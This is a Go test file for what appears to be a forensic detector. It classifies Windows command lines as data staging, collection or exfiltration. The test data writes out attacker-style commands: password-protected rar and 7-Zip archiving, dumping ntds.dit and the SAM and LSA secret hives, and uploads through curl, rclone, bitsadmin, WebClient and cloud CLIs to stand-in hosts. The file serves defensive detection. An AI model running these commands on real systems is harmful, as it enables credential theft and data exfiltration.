package exposure

import (
	"slices"
	"testing"

	"github.com/spoor-hunt/spoor/internal/result"
)

// recogniseLine is the first data movement of a command line's commands.
func recogniseLine(line, cwd string) (action, bool) {
	for _, c := range Commands(line) {
		if a, ok := recognise(c, cwd); ok {
			return a, true
		}
	}
	return action{}, false
}

func TestRecognise(t *testing.T) {
	const mib = 1 << 20
	for _, tc := range []struct {
		name, line, cwd string
		want            action
	}{
		{"rar password, headers, volumes, recursion, relative paths", `rar.exe a -r -hpS3cret -v100m -m5 out\d1 *.dwg`, `D:\Shares\Eng\`,
			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\Shares\Eng\*.dwg`}, dest: `D:\Shares\Eng\out\d1.rar`, password: true, headers: true, recursive: true, volSize: 100 * mib}},
		{"rar -p- is no password; a bare -v size is thousands; \\\" is a literal quote (CRT rules)", `"C:\Program Files\WinRAR\rar.exe" a -p- -v500 x.rar "D:\My Docs\"`, `C:\`,
			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\My Docs`}, dest: `C:\x.rar`, volSize: 500_000}},
		{"rar list file and -- ending switches", `rar a -pX -- -odd.rar @C:\l.txt`, ``,
			action{kind: result.ExposureStaged, tool: "rar", dest: `-odd.rar`, password: true, listFile: `C:\l.txt`}},
		{"rar extraction is no staging", `rar x -pX a.rar C:\out\`, ``, action{}},
		{"renamed rar by its switches", `C:\Windows\Temp\svc.exe a -hpX -ep1 C:\t\o.rar D:\p\`, ``,
			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\p\`}, dest: `C:\t\o.rar`, password: true, headers: true}},
		{"7-Zip password, encrypted headers, 1024-based volumes", `7za.exe a -t7z -pP -mhe=on -v2g C:\t\o.7z \\FS03\Engineering\CAD`, ``,
			action{kind: result.ExposureStaged, tool: "7-Zip", sources: []string{`\\FS03\Engineering\CAD`}, dest: `C:\t\o.7z`, password: true, headers: true, volSize: 2 << 30}},
		{"7-Zip -p alone: the password asked for at the console", `7z.exe a -p -v100m out.7z D:\data`, `C:\w`,
			action{kind: result.ExposureStaged, tool: "7-Zip", sources: []string{`D:\data`}, dest: `C:\w\out.7z`, password: true, volSize: 100 * mib}},
		{"rar -hp alone, a list file", `rar a -m5 -v100m -hp C:\t\out.rar @files.lst`, `C:\w`,
			action{kind: result.ExposureStaged, tool: "rar", dest: `C:\t\out.rar`, password: true, headers: true, volSize: 100 * mib, listFile: `C:\w\files.lst`}},
		{"makecab directive file", `makecab /F C:\ProgramData\list.ddf`, ``,
			action{kind: result.ExposureStaged, tool: "makecab", listFile: `C:\ProgramData\list.ddf`}},
		{"makecab one file into a folder", `makecab /L C:\t D:\db\erp.bak erp.cab`, ``,
			action{kind: result.ExposureStaged, tool: "makecab", sources: []string{`D:\db\erp.bak`}, dest: `C:\t\erp.cab`}},
		{"tar with -C changing the folder of later sources", `tar.exe -czf out.tgz -C D:\src proj`, `C:\t\`,
			action{kind: result.ExposureStaged, tool: "tar", sources: []string{`D:\src\proj`}, dest: `C:\t\out.tgz`, recursive: true}},
		{"tar extraction is no staging", `tar -xf a.tar`, `C:\`, action{}},
		{"Compress-Archive positional and array", `powershell -c "Compress-Archive D:\a,'D:\b c' C:\o.zip"`, ``,
			action{kind: result.ExposureStaged, tool: "Compress-Archive", sources: []string{`D:\a`, `D:\b c`}, dest: `C:\o.zip`, recursive: true}},
		{"robocopy with file filters", `robocopy \\FS03\Engineering C:\stage *.dwg *.step /E /R:0`, ``,
			action{kind: result.ExposureCollected, tool: "robocopy", sources: []string{`\\FS03\Engineering\*.dwg`, `\\FS03\Engineering\*.step`}, dest: `C:\stage`, recursive: true}},
		{"robocopy's excluded names are not files to copy", `robocopy \\FS03\Eng C:\stage /E /XF *.exe *.dll /XD tmp /R:0`, ``,
			action{kind: result.ExposureCollected, tool: "robocopy", sources: []string{`\\FS03\Eng\*`}, dest: `C:\stage`, recursive: true}},
		{"xcopy's long switches", `xcopy \\FS03\Eng C:\stage\ /EXCLUDE:C:\x.txt /D:01-01-2024 /s`, ``,
			action{kind: result.ExposureCollected, tool: "xcopy", sources: []string{`\\FS03\Eng`}, dest: `C:\stage\`, recursive: true}},
		{"dir's switches with values", `cmd /c dir /s /b /o:-d /a:-d D:\p\*.docx`, ``,
			action{kind: result.ExposureCollected, tool: "dir", sources: []string{`D:\p\*.docx`}, recursive: true}},
		{"xcopy recursive", `xcopy D:\src\*.cs C:\t\s\ /s /y`, ``,
			action{kind: result.ExposureCollected, tool: "xcopy", sources: []string{`D:\src\*.cs`}, dest: `C:\t\s\`, recursive: true}},
		{"copy from a share, relative destination", `cmd /c copy /y \\fs\c$\d1.rar d1.rar`, `C:\t`,
			action{kind: result.ExposureCollected, tool: "copy", sources: []string{`\\fs\c$\d1.rar`}, dest: `C:\t\d1.rar`}},
		{"Copy-Item abbreviated parameters", `powershell Copy-Item -Pat \\fs\eng\*.docx -Dest C:\t -Recurse`, ``,
			action{kind: result.ExposureCollected, tool: "Copy-Item", sources: []string{`\\fs\eng\*.docx`}, dest: `C:\t`, recursive: true}},
		{"recursive listing", `cmd /c dir /s /b D:\p\*.dwg`, ``,
			action{kind: result.ExposureCollected, tool: "dir", sources: []string{`D:\p\*.dwg`}, recursive: true}},
		{"dir of a share", `cmd /c dir \\FS03\Engineering`, ``,
			action{kind: result.ExposureCollected, tool: "dir", sources: []string{`\\FS03\Engineering`}}},
		{"Get-ChildItem -Recurse with a filter", `powershell -c "gci -Path \\FS03\Eng -Filter *.dwg -Recurse -File"`, ``,
			action{kind: result.ExposureCollected, tool: "Get-ChildItem", sources: []string{`\\FS03\Eng\*.dwg`}, recursive: true}},
		{"Get-ChildItem of the working folder is discovery", `powershell -c "Get-ChildItem"`, `C:\`, action{}},
		{"plain dir of a folder is discovery", `cmd /c dir c:\`, ``, action{}},
		{"share listing", `net view \\FS03 /all`, ``, action{kind: result.ExposureCollected, tool: "net view", sources: []string{`\\FS03`}}},
		{"curl -T with globbing, grouped short options", `curl.exe -skT "d1.part{1,2}.rar" https://h.example/up/`, `C:\t`,
			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\t\d1.part1.rar`, `C:\t\d1.part2.rar`}, dest: "https://h.example/up/"}},
		{"curl form and data files", `curl -F "file=@C:\t\a.zip;type=application/zip" --data-binary @b.7z --url https://x.example/`, `C:\w`,
			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\t\a.zip`, `C:\w\b.7z`}, dest: "https://x.example/"}},
		{"curl --upload-file=", `curl --upload-file=C:\a.rar ftp://x.example/`, ``,
			action{kind: result.ExposureExfiltrated, tool: "curl", sources: []string{`C:\a.rar`}, dest: "ftp://x.example/"}},
		{"curl download is no upload", `curl -o C:\t\x.exe https://x.example/x.exe`, ``, action{}},
		{"rclone to a remote", `rclone.exe copy D:\Projects mega:backup --transfers 8`, ``,
			action{kind: result.ExposureExfiltrated, tool: "rclone", sources: []string{`D:\Projects`}, dest: "mega:backup", recursive: true}},
		{"renamed rclone by its flags; unknown flags' numbers and durations skipped", `C:\PerfLogs\svchost.exe copy \\FS01\Finance ftp1:/drop --stats 10s --transfers 12 --ignore-existing --files-from=l.txt -q`, ``,
			action{kind: result.ExposureExfiltrated, tool: "rclone", sources: []string{`\\FS01\Finance`}, dest: "ftp1:/drop", recursive: true, listFile: "l.txt"}},
		{"a copy to a remote without rclone's flags is not rclone", `C:\x\tool.exe copy a.txt srv:b`, ``, action{}},
		{"renamed 7-Zip by its switches", `C:\Users\Public\svc.exe a -t7z -mx9 -pX C:\t\o.7z D:\Finance`, ``,
			action{kind: result.ExposureStaged, tool: "7-Zip", sources: []string{`D:\Finance`}, dest: `C:\t\o.7z`, password: true}},
		{"bitsadmin upload", `bitsadmin /transfer j /upload /priority high http://x.example/u C:\t\o.zip`, ``,
			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\o.zip`}, dest: "http://x.example/u"}},
		{"bitsadmin /upload before the job's name, two files", `bitsadmin /transfer /upload j https://x.example/u C:\t\a.zip https://x.example/v b.zip`, `C:\w`,
			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\a.zip`, `C:\w\b.zip`}, dest: "https://x.example/u"}},
		{"bitsadmin /addfile: the job's direction decides", `bitsadmin /addfile J1 https://x.example/u C:\t\o.zip`, ``,
			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\o.zip`}, dest: "https://x.example/u", bitsJob: "j1"}},
		{"bitsadmin download is no upload", `bitsadmin /transfer j /download http://x/u C:\t\o.exe`, ``, action{}},
		{"Invoke-RestMethod with -InFile", `pwsh -c "irm -Method Put -InFile C:\o.zip https://blob.example/c/o.zip"`, ``,
			action{kind: result.ExposureExfiltrated, tool: "Invoke-RestMethod", sources: []string{`C:\o.zip`}, dest: "https://blob.example/c/o.zip"}},
		{"pscp upload with its options' values skipped", `pscp.exe -P 2222 -pw s3cret -r out user@203.0.113.5:/tmp/`, `C:\t`,
			action{kind: result.ExposureExfiltrated, tool: "scp", sources: []string{`C:\t\out`}, dest: "user@203.0.113.5:/tmp/", recursive: true}},
		{"scp from a remote is no upload", `scp.exe -i k user@host:/etc/passwd C:\t\`, ``, action{}},
		{"WinSCP script in /command", `WinSCP.com /ini=nul /command "open sftp://u:p@h.example/ -hostkey=*" "put -delete C:\t\a.zip b.zip /up/" "exit"`, `C:\w`,
			action{kind: result.ExposureExfiltrated, tool: "WinSCP", sources: []string{`C:\t\a.zip`, `C:\w\b.zip`}, dest: "sftp://u:p@h.example/"}},
		{"WinSCP /upload", `winscp.exe sftp://u@h.example/ /upload C:\t\a.zip`, ``,
			action{kind: result.ExposureExfiltrated, tool: "WinSCP", sources: []string{`C:\t\a.zip`}, dest: "sftp://u@h.example/"}},
		{"MEGAcmd's batch file", `mega-put.bat -c C:\t\o.zip /exfil/`, ``,
			action{kind: result.ExposureExfiltrated, tool: "MEGA", sources: []string{`C:\t\o.zip`}, dest: "mega.nz"}},
		{"megatools put: option values are not files", `megatools put --username a@b.c --password pw --path /Root/x o.zip`, `C:\w`,
			action{kind: result.ExposureExfiltrated, tool: "MEGA", sources: []string{`C:\w\o.zip`}, dest: "mega.nz:/Root/x"}},
		{"megatools copy uploads a folder", `megatools copy --local D:\x --remote /Root/x`, ``,
			action{kind: result.ExposureExfiltrated, tool: "MEGA", sources: []string{`D:\x`}, dest: "mega.nz", recursive: true}},
		{"megatools copy --download is no upload", `megatools copy --download --local D:\x --remote /Root/x`, ``, action{}},
		{"WebClient.UploadFile", `powershell -c "(New-Object System.Net.WebClient).UploadFile('http://x.example/u', 'C:\t\o.zip')"`, ``,
			action{kind: result.ExposureExfiltrated, tool: "WebClient", sources: []string{`C:\t\o.zip`}, dest: "http://x.example/u"}},
		{"UploadFile with a method, a relative file", `powershell -c "$wc=New-Object Net.WebClient; $wc.UploadFile(\"ftp://x.example/o.zip\", 'STOR', 'o.zip')"`, `C:\w`,
			action{kind: result.ExposureExfiltrated, tool: "WebClient", sources: []string{`C:\w\o.zip`}, dest: "ftp://x.example/o.zip"}},
		{"UploadData of a file's bytes", `powershell -c "$c.UploadData('https://x.example/', 'POST', [IO.File]::ReadAllBytes('C:\t\o.7z'))"`, ``,
			action{kind: result.ExposureExfiltrated, tool: "WebClient", sources: []string{`C:\t\o.7z`}, dest: "https://x.example/"}},
		{"UploadFile of an expression is not evaluated", `powershell -c "$wc.UploadFile($u, $f)"`, ``, action{}},
		{"ZipFile.CreateFromDirectory", `powershell -c "Add-Type -A System.IO.Compression.FileSystem; [IO.Compression.ZipFile]::CreateFromDirectory('D:\Finance', 'C:\t\f.zip')"`, ``,
			action{kind: result.ExposureStaged, tool: "ZipFile", sources: []string{`D:\Finance`}, dest: `C:\t\f.zip`, recursive: true}},
		{"aws s3 cp with option values before and after", `aws --profile exfil s3 cp D:\x s3://bucket/x/ --recursive --endpoint-url https://s3.example.net --storage-class STANDARD`, ``,
			action{kind: result.ExposureExfiltrated, tool: "aws", sources: []string{`D:\x`}, dest: "s3://bucket/x/", recursive: true}},
		{"aws s3 cp from a bucket is no upload", `aws s3 cp s3://bucket/x C:\t\x`, ``, action{}},
		{"gsutil -m cp -r", `gsutil -m cp -r D:\x gs://bucket/`, ``,
			action{kind: result.ExposureExfiltrated, tool: "gsutil", sources: []string{`D:\x`}, dest: "gs://bucket/", recursive: true}},
		{"gcloud storage cp", `gcloud storage cp C:\t\o.7z gs://b/`, ``,
			action{kind: result.ExposureExfiltrated, tool: "gcloud", sources: []string{`C:\t\o.7z`}, dest: "gs://b/"}},
		{"s3cmd put", `s3cmd put o.zip s3://b/ --host=s3.example.net`, `C:\t`,
			action{kind: result.ExposureExfiltrated, tool: "s3cmd", sources: []string{`C:\t\o.zip`}, dest: "s3://b/"}},
		{"az storage blob upload-batch", `az storage blob upload-batch --source D:\Finance --destination drop --account-name exfil1`, ``,
			action{kind: result.ExposureExfiltrated, tool: "az storage", sources: []string{`D:\Finance`}, dest: "https://exfil1.blob.core.windows.net/drop", recursive: true}},
		{"az storage through python.exe (az.cmd)", `"C:\Program Files\Microsoft SDKs\Azure\CLI2\python.exe" -IBm azure.cli storage blob upload -f C:\t\o.7z -c drop --account-name exfil1`, ``,
			action{kind: result.ExposureExfiltrated, tool: "az storage", sources: []string{`C:\t\o.7z`}, dest: "https://exfil1.blob.core.windows.net/drop"}},
		{"gsutil through python.exe", `python.exe "C:\gcloud\bin\gsutil.py" cp C:\t\o.7z gs://b/`, ``,
			action{kind: result.ExposureExfiltrated, tool: "gsutil", sources: []string{`C:\t\o.7z`}, dest: "gs://b/"}},
		{"az storage blob upload", `az storage blob upload -f o.7z -c drop -n o.7z --account-name exfil1 --sas-token x`, `C:\t`,
			action{kind: result.ExposureExfiltrated, tool: "az storage", sources: []string{`C:\t\o.7z`}, dest: "https://exfil1.blob.core.windows.net/drop"}},
		{"restic backup to a REST server", `restic.exe -r rest:http://203.0.113.5:8000/ --password-file p.txt backup D:\Finance --tag x`, ``,
			action{kind: result.ExposureExfiltrated, tool: "restic", sources: []string{`D:\Finance`}, dest: "rest:http://203.0.113.5:8000/", recursive: true}},
		{"restic restore is no upload", `restic -r s3:s3.amazonaws.com/b restore latest --target C:\r`, ``, action{}},
		{"certreq -Post sends a file", `certreq -Post -config https://x.example/ C:\t\o.txt out.txt`, ``,
			action{kind: result.ExposureExfiltrated, tool: "certreq", sources: []string{`C:\t\o.txt`}, dest: "https://x.example/"}},
		{"zip with a password, split volumes, recursion", `zip -r -P s3cret -s 100m out D:\Finance`, `C:\t`,
			action{kind: result.ExposureStaged, tool: "zip", sources: []string{`D:\Finance`}, dest: `C:\t\out.zip`, password: true, recursive: true, volSize: 100 * mib}},
		{"absurd volume sizes are no size (twelve digits of terabytes overflowed)", `zip -r -s 999999999999t out D:\Finance`, `C:\t`,
			action{kind: result.ExposureStaged, tool: "zip", sources: []string{`D:\Finance`}, dest: `C:\t\out.zip`, recursive: true}},
		{"rar, an absurd volume size", `rar a -v999999999999g x.rar D:\d`, `C:\`,
			action{kind: result.ExposureStaged, tool: "rar", sources: []string{`D:\d`}, dest: `C:\x.rar`}},
		{"7-Zip, an absurd volume size", `7z a -v999999999999g x.7z D:\d`, `C:\`,
			action{kind: result.ExposureStaged, tool: "7-Zip", sources: []string{`D:\d`}, dest: `C:\x.7z`}},
		{"ntdsutil IFM", `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\x" q q`, ``,
			action{kind: result.ExposureCollected, tool: "ntdsutil IFM", sources: []string{`C:\Windows\NTDS\ntds.dit`}, dest: `C:\Windows\Temp\x`, recursive: true}},
		{"reg save of the SAM hive", `reg.exe save HKLM\SAM sam.save /y`, `C:\t`,
			action{kind: result.ExposureCollected, tool: "reg save", sources: []string{`HKLM\SAM`}, dest: `C:\t\sam.save`}},
		{"reg save run by PsExec on this host: LSA secrets", `PsExec.exe -accepteula -s reg save HKLM\security\policy\secrets C:\t\secrets`, ``,
			action{kind: result.ExposureCollected, tool: "reg save", sources: []string{`HKLM\security\policy\secrets`}, dest: `C:\t\secrets`}},
		{"reg save of another key is configuration", `reg save HKLM\SOFTWARE\x C:\t\x.hiv`, ``, action{}},
		{"PsExec on another host", `psexec \\FS01 -s reg save HKLM\SAM C:\t\sam`, ``, action{}},
		{"esentutl copy through a shadow copy", `esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\t\n.dit`, ``,
			action{kind: result.ExposureCollected, tool: "esentutl", sources: []string{`C:\Windows\NTDS\ntds.dit`}, dest: `C:\t\n.dit`}},
		{"azcopy to blob storage", `azcopy copy D:\x https://acct.blob.core.windows.net/c?sv=1 --recursive`, ``,
			action{kind: result.ExposureExfiltrated, tool: "azcopy", sources: []string{`D:\x`}, dest: "https://acct.blob.core.windows.net/c?sv=1", recursive: true}},
		{"aws s3 cp", `aws s3 cp C:\o.7z s3://bucket/o.7z`, ``,
			action{kind: result.ExposureExfiltrated, tool: "aws", sources: []string{`C:\o.7z`}, dest: "s3://bucket/o.7z"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := recogniseLine(tc.line, tc.cwd)
			if ok != (tc.want.kind != "") {
				t.Fatalf("recognised %v, want %v (%+v)", ok, !ok, got)
			}
			if got.kind != tc.want.kind || got.tool != tc.want.tool || got.dest != tc.want.dest || !slices.Equal(got.sources, tc.want.sources) ||
				got.password != tc.want.password || got.headers != tc.want.headers || got.recursive != tc.want.recursive ||
				got.volSize != tc.want.volSize || got.listFile != tc.want.listFile || got.bitsJob != tc.want.bitsJob {
				t.Errorf("got  %+v\nwant %+v", got, tc.want)
			}
		})
	}
}
